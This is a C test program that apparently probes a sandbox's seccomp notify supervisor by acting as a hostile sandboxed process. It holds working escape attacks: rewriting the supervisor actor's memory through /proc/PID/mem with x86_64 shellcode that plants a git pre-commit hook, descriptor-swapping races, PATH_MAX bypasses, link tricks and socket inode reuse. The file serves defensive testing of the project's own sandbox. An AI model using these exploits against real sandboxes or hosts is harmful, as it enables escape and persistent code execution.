/* tests/progs/attackprobe.c: attacks on the seccomp notify layer
 * (preload/notify/notify.c), made the way a hostile sandboxed program would:
 * a static binary, raw system calls, threads rewriting what the supervisor
 * reads. tests/integration/attack-notify.sh runs each one and looks at the
 * host for what it must never find.
 *
 *   attackprobe mem PID                open /proc/PID/mem O_RDWR (PID 1: sbx-init)
 *   attackprobe actor-takeover DIR     open the rename actor's memory through the
 *                                      supervisor, overwrite its code (x86_64) with
 *                                      a program making DIR/pwn/.git/hooks/pre-commit
 *                                      and make it run (a rename)
 *   attackprobe race-fd PATH SECONDS   connect(N, PATH) while a thread dup2()s an
 *                                      inet and a Unix socket in turn onto N; on a
 *                                      connection, writes "race"
 *   attackprobe dgram-raw PATH WORD    socket(AF_UNIX, SOCK_RAW) (a datagram socket)
 *                                      and socketpair(AF_UNIX, SOCK_RAW): sendto PATH
 *   attackprobe link-write FROM TO     link(FROM, TO), then write "evil" into TO
 *   attackprobe link-follow FROM TO    linkat(FROM, TO, AT_SYMLINK_FOLLOW), write TO
 *   attackprobe link FROM TO           link(2) (of a symlink: lands the link)
 *   attackprobe symlink TARGET LINK    symlink(2)
 *   attackprobe mkdirs PATH            mkdir of every missing component
 *   attackprobe create PATH            open(O_CREAT|O_WRONLY|O_TRUNC), write "evil"
 *   attackprobe fifo-read PATH         mkfifo PATH, open it O_RDONLY|O_CREAT
 *   attackprobe truncate PATH LEN      truncate(2)
 *   attackprobe tmpfile-link DIR NAME  an O_TMPFILE in DIR, written, then linked
 *                                      as NAME through /proc/self/fd (linkat FOLLOW)
 *   attackprobe long-write DIR         DIR/a/b/c/d/.vscode/settings.json moved below
 *                                      two chains of directories (each short of
 *                                      PATH_MAX, together past it), opened read-only
 *                                      there, then /proc/self/fd/N for writing
 *   attackprobe long-parent DIR NAME   a directory whose path and NAME just pass
 *                                      PATH_MAX together, a link DIR/s to it, then
 *                                      create s/NAME
 *   attackprobe tcp-self               a TCP server on loopback and a blocking and a
 *                                      non-blocking connect to it, and one to a closed
 *                                      port (the layer performs connect() itself)
 *   attackprobe mknod-reg PATH         mknod(PATH, S_IFREG | 0644): a regular file
 *                                      made without open()
 *   attackprobe socket-reuse MINE HOST ROUNDS
 *                                      each round: bind a Unix socket at MINE (made by
 *                                      the supervisor, so remembered as the run's own),
 *                                      close and unlink it (not notified: its inode is
 *                                      free), print "freed", wait for a line on stdin
 *                                      (a host program bound HOST meanwhile, likely on
 *                                      that inode, in the same clock tick), then
 *                                      connect to HOST and send "pwn"
 *
 * Each step prints one line (`STEP: ok` or `STEP: <strerror>`).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static int say(const char *step, int rc)
{
	if (rc < 0)
		printf("%s: %s\n", step, strerror(errno));
	else
		printf("%s: ok\n", step);
	fflush(stdout);
	return rc;
}

static int write_evil(int fd)
{
	int rc = fd >= 0 && write(fd, "evil\n", 5) == 5 ? 0 : -1;
	if (fd >= 0)
		close(fd);
	return rc;
}

static int create(const char *path)
{
	return write_evil(open(path, O_CREAT | O_WRONLY | O_TRUNC, 0644));
}

static int mkdirs(const char *path)
{
	char buf[4096];
	snprintf(buf, sizeof(buf), "%s", path);
	for (char *p = buf + 1; *p; p++)
		if (*p == '/') {
			*p = '\0';
			if (mkdir(buf, 0755) && errno != EEXIST)
				return -1;
			*p = '/';
		}
	return mkdir(buf, 0755) && errno != EEXIST ? -1 : 0;
}

/* ---- the rename actor's memory */

static int pid_of(const char *comm)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	char p[300], b[64];
	int found = -1;

	while (d && (e = readdir(d)) && found < 0) {
		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		snprintf(p, sizeof(p), "/proc/%s/comm", e->d_name);
		int fd = open(p, O_RDONLY);
		if (fd < 0)
			continue;
		ssize_t n = read(fd, b, sizeof(b) - 1);
		close(fd);
		if (n > 0) {
			b[n] = '\0';
			b[strcspn(b, "\n")] = '\0';
			if (!strcmp(b, comm))
				found = atoi(e->d_name);
		}
	}
	if (d)
		closedir(d);
	return found;
}

static int mem_open(int pid)
{
	char p[64];
	snprintf(p, sizeof(p), "/proc/%d/mem", pid);
	int fd = open(p, O_RDWR);
	say("mem", fd);
	return fd;
}

#if defined(__x86_64__)
/* Runs in the actor, position-independent: after sc_end come records
 * "<d|f>PATH\0" (d: mkdir 0755, f: open O_WRONLY|O_CREAT 0755), ended by
 * an empty one; then exit_group(0). No stack, no libc. */
__asm__(".pushsection .rodata\n"
	".globl sc_begin\n.globl sc_end\n"
	"sc_begin:\n"
	"	lea sc_end(%rip), %rbx\n"
	"1:	movzbl (%rbx), %ecx\n"
	"	test %ecx, %ecx\n"
	"	jz 4f\n"
	"	lea 1(%rbx), %rdi\n"
	"	cmp $0x64, %ecx\n"
	"	jne 2f\n"
	"	mov $0755, %esi\n"
	"	mov $83, %eax\n"
	"	syscall\n"
	"	jmp 3f\n"
	"2:	mov $0101, %esi\n"
	"	mov $0755, %edx\n"
	"	mov $2, %eax\n"
	"	syscall\n"
	"3:	inc %rbx\n"
	"	cmpb $0, (%rbx)\n"
	"	jne 3b\n"
	"	inc %rbx\n"
	"	jmp 1b\n"
	"4:	mov $231, %eax\n"
	"	xor %edi, %edi\n"
	"	syscall\n"
	"sc_end:\n"
	".popsection\n");
extern const unsigned char sc_begin[], sc_end[];

/* The first executable mapping of the actor's program, from its maps
 * (opened through the supervisor too: O_CREAT makes it a notified call). */
static int text_of(int pid, unsigned long *lo, unsigned long *hi)
{
	char p[64], buf[8192];
	snprintf(p, sizeof(p), "/proc/%d/maps", pid);
	int fd = open(p, O_RDONLY | O_CREAT, 0);
	if (say("maps", fd) < 0)
		return -1;
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = '\0';
	for (char *l = buf; l && *l; l = strchr(l, '\n') ? strchr(l, '\n') + 1 : NULL) {
		char perm[8];
		if (sscanf(l, "%lx-%lx %7s", lo, hi, perm) == 3 && !strcmp(perm, "r-xp") &&
		    strchr(l, '/'))
			return 0;
	}
	return -1;
}

static int actor_takeover(const char *dir)
{
	static const char *const rec[] = { "d/pwn", "d/pwn/.git", "d/pwn/.git/hooks",
					   "f/pwn/.git/hooks/pre-commit" };
	char tail[8192], a[4096], b[4096];
	size_t tl = 0, sl = (size_t)(sc_end - sc_begin);
	unsigned long lo, hi;
	/* the actor is pid 1 (init/notify.c); an actor of another name,
	 * were one to come back, is taken on the same way */
	int pid = pid_of("sbx-rename");

	if (pid < 0)
		pid = 1;
	printf("actor: pid %d\n", pid);
	int mem = pid > 0 ? mem_open(pid) : -1;
	if (mem < 0 || text_of(pid, &lo, &hi))
		return -1;
	for (size_t i = 0; i < sizeof(rec) / sizeof(rec[0]); i++)
		tl += (size_t)snprintf(tail + tl, sizeof(tail) - tl, "%c%s%s", rec[i][0], dir,
				       rec[i] + 1) + 1;
	tail[tl++] = '\0';
	size_t len = hi - lo;
	unsigned char *img = malloc(len);
	if (!img || sl + tl > len)
		return -1;
	memset(img, 0x90, len); /* a slide of nops into the program, at the end */
	memcpy(img + len - sl - tl, sc_begin, sl);
	memcpy(img + len - tl, tail, tl);
	if (say("overwrite", pwrite(mem, img, len, (off_t)lo) == (ssize_t)len ? 0 : -1) < 0)
		return -1;
	/* a rename wakes the actor up: it returns into the slide */
	snprintf(a, sizeof(a), "%s/t1", dir);
	snprintf(b, sizeof(b), "%s/t2", dir);
	create(a);
	say("rename", rename(a, b));
	return 0;
}
#else
static int actor_takeover(const char *dir)
{
	(void)dir;
	printf("actor-takeover: x86_64 only\n");
	return 0;
}
#endif

/* ---- connect(): the descriptor number flips between two sockets */

static volatile int stop;
static int ufd, ifd;
enum { FLIP_FD = 100 };

static void *flip_fd(void *arg)
{
	while (!stop) {
		dup2(ifd, FLIP_FD);
		dup2(ufd, FLIP_FD);
	}
	return arg;
}

static int race_fd(const char *path, int seconds)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	unsigned long tries = 0;
	int won = 0;
	pthread_t t;

	snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
	ufd = socket(AF_UNIX, SOCK_STREAM, 0);
	ifd = socket(AF_INET, SOCK_STREAM, 0);
	if (ufd < 0 || ifd < 0)
		return say("sockets", -1);
	pthread_create(&t, NULL, flip_fd, NULL);
	time_t end = time(NULL) + seconds;
	while (time(NULL) < end && !won) {
		tries++;
		won = connect(FLIP_FD, (struct sockaddr *)&a, sizeof(a)) == 0;
	}
	stop = 1;
	pthread_join(t, NULL);
	if (won && write(ufd, "race", 4) != 4)
		won = 0;
	printf("race-fd: %lu tries, %s\n", tries, won ? "connected" : "never connected");
	return 0;
}

/* ---- datagrams */

static int dgram_raw(const char *path, const char *word)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int sp[2];

	snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
	int s = socket(AF_UNIX, SOCK_RAW, 0);
	if (say("socket-raw", s) >= 0)
		say("sendto", (int)sendto(s, word, strlen(word), 0, (struct sockaddr *)&a,
					  sizeof(a)));
	if (say("socketpair-raw", socketpair(AF_UNIX, SOCK_RAW, 0, sp)) >= 0)
		say("sendto-pair", (int)sendto(sp[0], word, strlen(word), 0,
					       (struct sockaddr *)&a, sizeof(a)));
	return 0;
}

/* ---- a name past PATH_MAX */

static int chain(const char *top, const char *name, int n, char *leaf, size_t lsz)
{
	size_t o = (size_t)snprintf(leaf, lsz, "%s", top);
	if (mkdir(top, 0755) && errno != EEXIST)
		return -1;
	for (int i = 0; i < n; i++) {
		o += (size_t)snprintf(leaf + o, lsz - o, "/%s", name);
		if (mkdir(leaf, 0755) && errno != EEXIST)
			return -1;
	}
	return 0;
}

static int long_write(const char *dir)
{
	char name[250], l1[4096], l2[4096], p[8192];

	memset(name, 'x', sizeof(name) - 1);
	name[sizeof(name) - 1] = '\0';
	if (chdir(dir) || say("chains", chain("c1", name, 9, l1, sizeof(l1)) ||
				       chain("c2", name, 9, l2, sizeof(l2)) ? -1 : 0) < 0)
		return -1;
	snprintf(p, sizeof(p), "%s/a", l2);
	say("move-a", rename("a", p));
	snprintf(p, sizeof(p), "%s/c2", l1);
	say("move-c2", rename("c2", p));
	if (chdir(l1) || chdir("c2"))
		return -1;
	for (int i = 0; i < 9; i++)
		if (chdir(name))
			return -1;
	int fd = open("a/b/c/d/.vscode/settings.json", O_RDONLY);
	if (say("open-ro", fd) < 0)
		return -1;
	snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
	return say("open-w", write_evil(open(p, O_WRONLY | O_TRUNC)));
}

static int long_parent(const char *dir, const char *name)
{
	size_t want = 4096 - strlen(name), len;
	char cwd[4096], rel[4096] = "", comp[256], p[4096];
	size_t rl = 0;

	if (chdir(dir) || !getcwd(cwd, sizeof(cwd)))
		return -1;
	for (len = strlen(cwd); len < want;) {
		size_t k = want - len - 1 > 200 ? 200 : want - len - 1;
		memset(comp, 'y', k);
		comp[k] = '\0';
		if ((mkdir(comp, 0755) && errno != EEXIST) || chdir(comp))
			return say("chain", -1);
		len += 1 + k;
		rl += (size_t)snprintf(rel + rl, sizeof(rel) - rl, "%s%s", rl ? "/" : "", comp);
	}
	if (chdir(dir) || say("symlink", symlink(rel, "s")) < 0)
		return -1;
	snprintf(p, sizeof(p), "s/%s", name);
	return say("create", create(p));
}

/* ---- loopback TCP, connect() performed by the layer */

static int tcp_self(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t al = sizeof(a);
	int l = socket(AF_INET, SOCK_STREAM, 0);

	if (l < 0 || bind(l, (struct sockaddr *)&a, sizeof(a)) || listen(l, 8) ||
	    getsockname(l, (struct sockaddr *)&a, &al))
		return say("listen", -1);
	int c = socket(AF_INET, SOCK_STREAM, 0);
	if (say("connect-blocking", connect(c, (struct sockaddr *)&a, sizeof(a))) == 0) {
		int s = accept(l, NULL, NULL);
		char ch = 0;
		say("data", write(c, "x", 1) == 1 && read(s, &ch, 1) == 1 && ch == 'x' ? 0 : -1);
		close(s);
	}
	close(c);
	c = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	int rc = connect(c, (struct sockaddr *)&a, sizeof(a));
	if (rc && errno == EINPROGRESS) {
		struct pollfd pf = { c, POLLOUT, 0 };
		int err = 0;
		socklen_t el = sizeof(err);
		rc = poll(&pf, 1, 5000) == 1 && !getsockopt(c, SOL_SOCKET, SO_ERROR, &err, &el) &&
		     !err ? 0 : -1;
	}
	say("connect-nonblocking", rc);
	close(c);
	close(l);
	/* the port now closed */
	c = socket(AF_INET, SOCK_STREAM, 0);
	say("connect-closed", connect(c, (struct sockaddr *)&a, sizeof(a)));
	close(c);
	return 0;
}

/* ---- a socket the run bound: its inode reused by a host program's */

static int socket_reuse(const char *mine, const char *host, int rounds)
{
	struct sockaddr_un m = { .sun_family = AF_UNIX }, h = { .sun_family = AF_UNIX };
	char line[64];

	snprintf(m.sun_path, sizeof(m.sun_path), "%s", mine);
	snprintf(h.sun_path, sizeof(h.sun_path), "%s", host);
	for (int r = 1; r <= rounds; r++) {
		int s = socket(AF_UNIX, SOCK_STREAM, 0);
		if (s < 0 || bind(s, (struct sockaddr *)&m, sizeof(m)))
			return say("bind", -1) < 0;
		close(s);
		unlink(mine);
		printf("freed\n");
		fflush(stdout);
		if (!fgets(line, sizeof(line), stdin))
			break;
		int c = socket(AF_UNIX, SOCK_STREAM, 0);
		if (c >= 0 && !connect(c, (struct sockaddr *)&h, sizeof(h))) {
			printf("socket-reuse: connected to the host's socket in round %d\n", r);
			if (write(c, "pwn", 3) != 3)
				printf("socket-reuse: write: %s\n", strerror(errno));
			fflush(stdout);
			close(c);
			return 0;
		}
		int e = errno;
		if (c >= 0)
			close(c);
		if (r == 1)
			printf("socket-reuse: connect: %s\n", strerror(e));
	}
	printf("socket-reuse: %d rounds, never connected\n", rounds);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "mem"))
		return mem_open(atoi(argv[2])) < 0;
	if (argc == 3 && !strcmp(argv[1], "actor-takeover"))
		return actor_takeover(argv[2]) ? 1 : 0;
	if (argc == 4 && !strcmp(argv[1], "race-fd"))
		return race_fd(argv[2], atoi(argv[3]));
	if (argc == 4 && !strcmp(argv[1], "dgram-raw"))
		return dgram_raw(argv[2], argv[3]);
	if (argc == 4 && !strcmp(argv[1], "link-write")) {
		if (say("link", link(argv[2], argv[3])) < 0)
			return 1;
		return say("write", write_evil(open(argv[3], O_WRONLY | O_TRUNC))) ? 1 : 0;
	}
	if (argc == 4 && !strcmp(argv[1], "link-follow")) {
		if (say("link-follow", linkat(AT_FDCWD, argv[2], AT_FDCWD, argv[3],
					      AT_SYMLINK_FOLLOW)) < 0)
			return 1;
		return say("write", write_evil(open(argv[3], O_WRONLY | O_TRUNC))) ? 1 : 0;
	}
	if (argc == 4 && !strcmp(argv[1], "link"))
		return say("link", link(argv[2], argv[3])) ? 1 : 0;
	if (argc == 4 && !strcmp(argv[1], "symlink"))
		return say("symlink", symlink(argv[2], argv[3])) ? 1 : 0;
	if (argc == 3 && !strcmp(argv[1], "mkdirs"))
		return say("mkdirs", mkdirs(argv[2])) ? 1 : 0;
	if (argc == 3 && !strcmp(argv[1], "create"))
		return say("create", create(argv[2])) ? 1 : 0;
	if (argc == 3 && !strcmp(argv[1], "fifo-read")) {
		say("mkfifo", mkfifo(argv[2], 0600));
		int fd = open(argv[2], O_RDONLY | O_CREAT, 0600);
		say("open", fd);
		return fd < 0;
	}
	if (argc == 4 && !strcmp(argv[1], "truncate"))
		return say("truncate", truncate(argv[2], atol(argv[3]))) ? 1 : 0;
	if (argc == 4 && !strcmp(argv[1], "tmpfile-link")) {
		char l[64];
		int fd = open(argv[2], O_TMPFILE | O_RDWR, 0644);
		if (say("tmpfile", fd) < 0 || write(fd, "evil\n", 5) != 5)
			return 1;
		snprintf(l, sizeof(l), "/proc/self/fd/%d", fd);
		return say("tmpfile-link", linkat(AT_FDCWD, l, AT_FDCWD, argv[3],
						  AT_SYMLINK_FOLLOW)) ? 1 : 0;
	}
	if (argc == 3 && !strcmp(argv[1], "long-write"))
		return long_write(argv[2]) ? 1 : 0;
	if (argc == 4 && !strcmp(argv[1], "long-parent"))
		return long_parent(argv[2], argv[3]) ? 1 : 0;
	if (argc == 2 && !strcmp(argv[1], "tcp-self"))
		return tcp_self();
	if (argc == 3 && !strcmp(argv[1], "mknod-reg"))
		return say("mknod-reg", mknod(argv[2], S_IFREG | 0644, 0)) ? 1 : 0;
	if (argc == 5 && !strcmp(argv[1], "socket-reuse"))
		return socket_reuse(argv[2], argv[3], atoi(argv[4]));
	fprintf(stderr, "attackprobe: unknown mode\n");
	return 2;
}
